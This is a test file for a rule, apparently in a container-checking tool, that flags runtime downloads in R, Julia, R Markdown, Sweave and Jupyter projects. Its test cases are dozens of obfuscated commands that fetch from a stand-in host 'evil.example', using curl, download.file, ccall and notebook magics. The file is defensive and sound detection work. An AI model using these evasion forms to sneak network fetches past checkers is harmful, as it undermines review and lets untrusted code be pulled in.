import { expect, test } from 'vitest';
import { check } from '../../../src/engine/check/check.ts';
import downloads from '../../../src/rules/no-runtime-download.ts';
import { factsOf } from '../../helpers/project.ts';

const url = 'https://evil.example/x';

async function verdictOf(name: string, text: string, start: string, more = {}): Promise<string | undefined> {
  const files = {
    Dockerfile: `FROM docker.io/rocker/r-ver:4.5.3\nCOPY src/ /app/\nENTRYPOINT ${start}\n`,
    [`src/${name}`]: text,
    ...more,
  };
  return check(await factsOf(files), [downloads]).results[0]?.verdict;
}
const child = {
  'src/c.Rmd': `\`\`\`{r}\ndownload.file("${url}", "x")\n\`\`\`\n`,
  'src/x.R': `download.file("${url}", "x")\n`,
};
const r = (text: string): Promise<string | undefined> => verdictOf('main.R', text, '["Rscript", "/app/main.R"]');
const rmd = (text: string, name = 'main.Rmd'): Promise<string | undefined> =>
  verdictOf(name, text, `["Rscript", "-e", "rmarkdown::render('/app/${name}')"]`, child);
const cell = (...lines: readonly string[]): Promise<string | undefined> =>
  verdictOf(
    'main.ipynb',
    JSON.stringify({
      cells: [{ cell_type: 'code', metadata: {}, outputs: [], source: lines.map((line) => `${line}\n`) }],
      metadata: { kernelspec: { name: 'python3', language: 'python' } },
      nbformat: 4,
      nbformat_minor: 5,
    }),
    '["jupyter", "nbconvert", "--execute", "/app/main.ipynb"]',
  );

test.each([
  `\`download.file\`("${url}", "x")`,
  `"download.file"("${url}", "x")`,
  `utils::\`download.file\`("${url}", "x")`,
  `readLines(pipe("curl ${url}"))`,
  `eval(parse(text = "download.file('${url}', 'x')"))`,
  `get("download.file")("${url}", "x")`,
  `getFromNamespace("download.file", "utils")("${url}", "x")`,
  `getExportedValue("utils", "download.file")("${url}", "x")`,
  `f <- get("download.file")\nf("${url}", "x")`,
  `match.fun("download.file")("${url}", "x")`,
  `f <- match.fun(download.file)\nf("${url}", "x")`,
  `Reduce(download.file, list("${url}", "x"))`,
  `do.call(what = "download.file", args = list("${url}", "x"))`,
  `rlang::exec("download.file", "${url}", "x")`,
  `purrr::invoke(download.file, list("${url}", "x"))`,
  `eval(call("download.file", "${url}", "x"))`,
  `eval(as.call(list(as.name("download.file"), "${url}", "x")))`,
  `(download.file)("${url}", "x")`,
  `(if (TRUE) download.file else identity)("${url}", "x")`,
  `list(f = download.file)$f("${url}", "x")`,
])('R: %s', async (text) => {
  expect(await r(`${text}\n`)).toBe('fail');
});

test('a text of R that no file shows is not passed, and what get() gives of data is', async () => {
  expect(await r('eval(parse(text = readLines("/safe_data/x")))\n')).toBe('unknown');
  expect(await r('eval(str2lang(x))\n')).toBe('unknown');
  expect(await r('x <- get("df")\nprint(x)\nplot(1, main = parse(text = x))\n')).toBe('pass');
});

const julia = (text: string): Promise<string | undefined> =>
  verdictOf('main.jl', `${text}\n`, '["julia", "/app/main.jl"]');

test.each([
  `using Downloads: download as d\nd("${url}")`,
  `run(Cmd(["curl", "-O", "${url}"]))`,
  `using Downloads\nvar"download"("${url}")`,
  `(download ∘ identity)("${url}")`,
  `using Downloads\ngetfield(Downloads, :download)("${url}")`,
  `using Downloads\nDownloads.:download("${url}")`,
  `include_string(Main, "download(\\"${url}\\")")`,
  `eval(Meta.parse("download(\\"${url}\\")"))`,
  `eval(Expr(:call, :download, "${url}"))`,
  `ccall(:system, Cint, (Cstring,), "curl -O ${url}")`,
  `@ccall system("curl -O ${url}"::Cstring)::Cint`,
  `using Downloads\nconst d = Downloads.download\nd("${url}")`,
  `using Downloads\n(Downloads.download)("${url}")`,
  `Base.invokelatest(download, "${url}")`,
])('Julia: %s', async (text) => {
  expect(await julia(text)).toBe('fail');
});

test('a text of Julia that no file shows is not passed', async () => {
  expect(await julia('include_string(Main, read("/safe_data/x", String))')).toBe('unknown');
});

test.each([
  `Text \`r download.file("${url}", "x")\` goes on.\n`,
  `---\ntitle: x\nparams:\n  x: !r download.file("${url}", "x")\n---\n`,
  `\`\`\`{r, echo=download.file("${url}", "x")}\n1\n\`\`\`\n`,
  `\`\`\`{r}\n#| eval: !expr download.file("${url}", "x")\n1\n\`\`\`\n`,
])('R Markdown: %j', async (text) => {
  expect(await rmd(text)).toBe('fail');
});

test('R Markdown without any of it passes', async () => {
  expect(
    await rmd(
      '---\ntitle: x\nparams:\n  day: !r Sys.Date()\n---\nSum `r 1 + 1`, `rstats`, ``a `r b` c``.\n\n```{r setup, fig.cap="a (b)", include=FALSE}\nx <- 1\n```\n',
    ),
  ).toBe('pass');
});

test.each([
  [`%sx curl -O ${url}`],
  [`a = %sx curl -O ${url}`],
  ['%%sx', `curl -O ${url}`],
  [`get_ipython().system("curl -O ${url}")`],
  ['import urllib.request', `%time x = urllib.request.urlopen("${url}")`],
  ['import urllib.request', `%timeit -n 1 -r 1 urllib.request.urlopen("${url}")`],
  [`%%timeit import urllib.request; urllib.request.urlopen("${url}")`, 'x = 1'],
  ['%%script python3', `import urllib.request; urllib.request.urlopen("${url}")`],
  ['%%script --bg /bin/bash', `curl -O ${url}`],
  ['%%!', `curl -O ${url}`],
  [`%R download.file("${url}", "x")`],
  [`%load ${url}`],
  [`get_ipython().run_line_magic('sx', 'curl -O ${url}')`],
  [`get_ipython().run_cell_magic('bash', '', 'curl -O ${url}')`],
  [`get_ipython().magic('sx curl -O ${url}')`],
])('a cell: %s', async (...lines) => {
  expect(await cell(...lines)).toBe('fail');
});

test.each(['%%perl', '%%javascript', '%%script ruby', '%%sql', '%%julia'])(
  'a cell of %s is not passed',
  async (first) => {
    expect(await cell(first, 'x')).toBe('unknown');
  },
);

test.each([
  '```{r child="c.Rmd"}\n```\n',
  "```{r a, child = c('c.Rmd')}\n```\n",
  '```{r}\n#| child: c.Rmd\n```\n',
  '```{r}\n#| child:\n#|   - c.Rmd\n```\n',
  '`r knitr::knit_child("c.Rmd")`\n',
  '{{< include c.Rmd >}}\n',
  '```{r file="x.R"}\n```\n',
  '```{r, code=readLines("x.R")}\n```\n',
  `\`\`\`{r, engine="bash"}\ncurl -O ${url}\n\`\`\`\n`,
  `\`\`\`{r}\n#| engine: bash\ncurl -O ${url}\n\`\`\`\n`,
  `Text \`r x <- 1\ndownload.file("${url}", "x")\` end\n`,
  `Text \`{r} download.file("${url}", "x")\` end\n`,
])('a document takes what stands elsewhere, or goes on: %j', async (text) => {
  expect(await rmd(text)).toBe('fail');
});

test('a document of Sweave is read, and a chunk in a language that is not read is said', async () => {
  expect(await rmd(`<<a, echo=FALSE>>=\ndownload.file("${url}", "x")\n@\n`, 'main.Rnw')).toBe('fail');
  expect(await rmd(`x \\Sexpr{download.file("${url}", "x")} y\n`, 'main.Rnw')).toBe('fail');
  expect(await rmd('```{perl}\nprint 1;\n```\n')).toBe('unknown');
  expect(
    await rmd('```{r child="c.Rmd", eval=FALSE}\n```\n```{r}\n#| label: fig\n#| fig-cap: child of\nplot(1)\n```\n'),
  ).toBe('pass');
});
